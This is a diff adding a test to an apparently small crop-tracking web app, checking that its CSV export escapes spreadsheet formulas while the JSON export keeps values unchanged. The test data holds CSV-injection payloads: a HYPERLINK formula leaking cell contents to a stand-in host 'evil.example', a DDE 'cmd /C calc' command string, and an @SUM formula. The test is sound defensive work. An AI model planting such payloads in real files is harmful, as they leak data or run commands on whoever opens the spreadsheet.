@@ -117,6 +117,25 @@ def test_exports_keep_harvest_method_and_yield_apart(client_as):
     assert data[0]["expected_yield"] == 3.5 and data[0]["harvest_method"] == "per_plant"
 
 
+def test_the_csv_export_cannot_run_formulas_and_the_json_export_stays_exact(client_as):
+    """Issue 11 §4: these were written verbatim into /cultures/export.csv."""
+    add(
+        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        variety="+cmd|' /C calc'!A0",
+        notes="@SUM(1+1)",
+        growth_duration_days=60,
+    )
+    viewer = client_as("viewer")
+    row = next(csv.DictReader(io.StringIO(viewer.get("/cultures/export.csv").get_data(True))))
+    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["variety"] == "'+cmd|' /C calc'!A0"
+    assert row["notes"] == "'@SUM(1+1)"
+    assert row["growth_duration_days"] == "60"
+    data = viewer.get("/cultures/export.json").get_json()[0]
+    assert data["name"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert (data["variety"], data["notes"]) == ("+cmd|' /C calc'!A0", "@SUM(1+1)")
+
+
 def test_the_api_creates_reads_updates_and_deletes(client_as):
     editor = client_as("editor")
     token = editor.csrf_token("/")
